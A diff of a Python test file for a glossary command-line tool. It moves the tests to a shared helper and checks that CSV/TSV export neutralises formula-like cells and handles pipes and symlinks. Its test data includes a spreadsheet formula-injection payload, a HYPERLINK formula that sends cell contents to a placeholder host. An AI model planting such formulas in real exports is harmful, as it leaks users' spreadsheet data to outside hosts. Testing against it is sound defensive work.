@@ -9,13 +9,12 @@ import io
 from pathlib import Path
 
 import pytest
-from typer.testing import CliRunner
 
-from glossary_cli.cli import app
 from glossary_cli.formats import table
+from glossary_cli.formats._dialect import Dialect
 from glossary_cli.model import Concept, Glossary, LangSection, Term
 
-runner = CliRunner()
+from .conftest import gloss
 
 HOSTILE = [
     '=HYPERLINK("http://example.invalid/"&A1,"click")',
@@ -40,12 +39,12 @@ def _cells(data: bytes, delimiter: str = ",") -> list[str]:
 
 
 @pytest.mark.parametrize("dialect", ["csv", "tsv"])
-def test_a_cell_that_begins_like_a_formula_is_written_as_text(dialect: str) -> None:
-    data = table.write(_glossary(), dialect=dialect)  # type: ignore[arg-type]
+def test_a_cell_that_begins_like_a_formula_is_written_as_text(dialect: Dialect) -> None:
+    data = table.write(_glossary(), dialect=dialect)
     cells = _cells(data, "," if dialect == "csv" else "\t")
     assert not [c for c in cells if c.startswith(table.FORMULA_START)]
     assert {"'" + t for t in HOSTILE} <= set(cells)
-    back = table.read(data, f"x.{dialect}", dialect=dialect)  # type: ignore[arg-type]
+    back = table.read(data, f"x.{dialect}", dialect=dialect)
     terms = {t.text for c in back.concepts for s in c.languages for t in s.terms}
     assert set(HOSTILE) <= terms  # read back as written before
 
@@ -66,22 +65,22 @@ def test_an_imported_hostile_term_is_exported_safely_and_read_back(
         writer = csv.writer(fh)
         writer.writerow(["en", "bn"])
         writer.writerows([term, f"শব্দ{i}"] for i, term in enumerate(HOSTILE))
-    assert runner.invoke(app, ["add", str(source)]).exit_code == 0
-    exported = runner.invoke(app, ["export", "--format", "csv", "--glossary", "evil"])
+    assert gloss("add", str(source)).exit_code == 0
+    exported = gloss("export", "--format", "csv", "--glossary", "evil")
     assert exported.exit_code == 0, exported.stderr
     cells = _cells(exported.stdout.encode("utf-8"))
     assert not [c for c in cells if c.startswith(table.FORMULA_START)]
-    raw = runner.invoke(app, ["export", "--format", "csv", "--glossary", "evil", "--raw-cells"])
+    raw = gloss("export", "--format", "csv", "--glossary", "evil", "--raw-cells")
     assert set(HOSTILE) <= set(_cells(raw.stdout.encode("utf-8")))
     for command in (["search", "শব্দ0", "--format", "csv"], ["list", "--format", "csv"]):
-        shown = runner.invoke(app, command)
+        shown = gloss(*command)
         assert shown.exit_code == 0, shown.stderr
         found = _cells(shown.stdout.encode("utf-8"))
         assert any(c.startswith("'=HYPERLINK") for c in found)
         assert not [c for c in found if c.startswith(table.FORMULA_START)]
     again = tmp_path / "again.csv"
     again.write_text(exported.stdout, encoding="utf-8")
-    dry = runner.invoke(app, ["add", str(again), "--dry-run"])
+    dry = gloss("add", str(again), "--dry-run")
     # the term as it was ('=HYPERLINK…' quoted), never with the apostrophe ("'=HYPERLINK…")
     assert dry.exit_code == 0 and "'=HYPERLINK" in dry.stdout and "\"'=" not in dry.stdout
 
@@ -100,7 +99,7 @@ def test_export_into_a_named_pipe_writes_into_the_pipe(tmp_path: Path) -> None:
     got: list[bytes] = []
     reader = threading.Thread(target=lambda: got.append(fifo.read_bytes()))
     reader.start()
-    result = runner.invoke(app, ["export", "--format", "csv", "-o", str(fifo)])
+    result = gloss("export", "--format", "csv", "-o", str(fifo))
     reader.join(timeout=30)
     assert result.exit_code == 0, result.stderr
     assert stat.S_ISFIFO(fifo.lstat().st_mode)
@@ -112,7 +111,7 @@ def test_export_through_a_symbolic_link_replaces_its_target(tmp_path: Path) -> N
     target.write_text("old\n", encoding="utf-8")
     link = tmp_path / "link.csv"
     link.symlink_to(target)
-    result = runner.invoke(app, ["export", "-o", str(link)])
+    result = gloss("export", "-o", str(link))
     assert result.exit_code == 0, result.stderr
     assert link.is_symlink() and link.resolve() == target.resolve()
     assert target.read_text(encoding="utf-8").startswith("id,")
